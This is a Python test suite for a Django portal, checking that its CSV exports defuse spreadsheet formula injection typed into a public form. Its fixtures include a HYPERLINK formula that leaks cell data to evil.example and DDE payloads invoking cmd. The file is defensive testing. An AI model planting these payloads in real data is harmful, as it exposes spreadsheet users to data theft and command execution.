"""Every CSV goes through one writer: a cell that a spreadsheet would run as
a formula (a leading =, +, -, @, tab or carriage return) gets a leading ',
numbers stay numbers, and the file keeps its UTF-8 byte-order mark. Checked
from the public form through to each export."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from consultations.models import Consultation
from shatil_portal.csv_export import csv_text, safe_cell
from tests.factories import request_form_data

pytestmark = pytest.mark.django_db

HOSTILE_ORGANIZATION = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HOSTILE_CONTACTS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+972 evil", "-2+3+cmd|' /C calc'"]


@pytest.fixture(autouse=True)
def no_rate_limit(settings):
    settings.RATELIMIT_ENABLE = False


@pytest.fixture
def staff_client(client, coordinator):
    client.force_login(coordinator)
    return client


def _read(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _submit_hostile_requests(client) -> list[Consultation]:
    for index, contact in enumerate(HOSTILE_CONTACTS):
        response = client.post(
            "/en/request/",
            request_form_data(
                organization_name=HOSTILE_ORGANIZATION, contact_name=contact
            ),
        )
        assert response.status_code == 302, index
    consultations = list(Consultation.objects.order_by("pk"))
    assert {c.organization.name for c in consultations} == {HOSTILE_ORGANIZATION}
    return consultations


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_admin_exports_neutralize_formulas_typed_into_the_public_form(
    client, coordinator
):
    consultations = _submit_hostile_requests(client)
    client.force_login(coordinator)

    with translation.override("he"):
        changelist = reverse("admin:consultations_consultation_changelist")
        export = reverse("admin:consultations_consultation_export")
    selected = client.post(
        changelist,
        {
            "action": "export_selected",
            "_selected_action": [c.pk for c in consultations],
        },
    )
    filtered = client.get(export)

    for response in (selected, filtered):
        header, *rows = _read(b"".join(response.streaming_content))
        assert len(rows) == len(HOSTILE_CONTACTS)
        _assert_no_formula(rows)
        # The columns as consultation_export_rows orders them.
        organization, contact = 2, 13
        assert {row[organization] for row in rows} == {"'" + HOSTILE_ORGANIZATION}
        assert sorted(row[contact] for row in rows) == sorted(
            "'" + name for name in HOSTILE_CONTACTS
        )


def test_the_dashboard_csv_neutralizes_an_organization_name(client, coordinator):
    _submit_hostile_requests(client)
    client.force_login(coordinator)

    with translation.override("he"):
        url = reverse("workspace:dashboard_csv", kwargs={"slug": "organizations"})
    header, *rows = _read(client.get(url).content)

    assert rows == [["'" + HOSTILE_ORGANIZATION, str(len(HOSTILE_CONTACTS))]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("-5", "-5"),
        ("3.2", "3.2"),
        ("+972501234567", "+972501234567"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_a_cell_is_neutralized_only_when_it_would_start_a_formula(value, written):
    assert safe_cell(value) == written


def test_numbers_stay_numbers_and_the_file_keeps_its_byte_order_mark():
    text = csv_text([["=1", -5, 2.5, "-3"]])

    assert text == "\ufeff'=1,-5,2.5,-3\r\n"
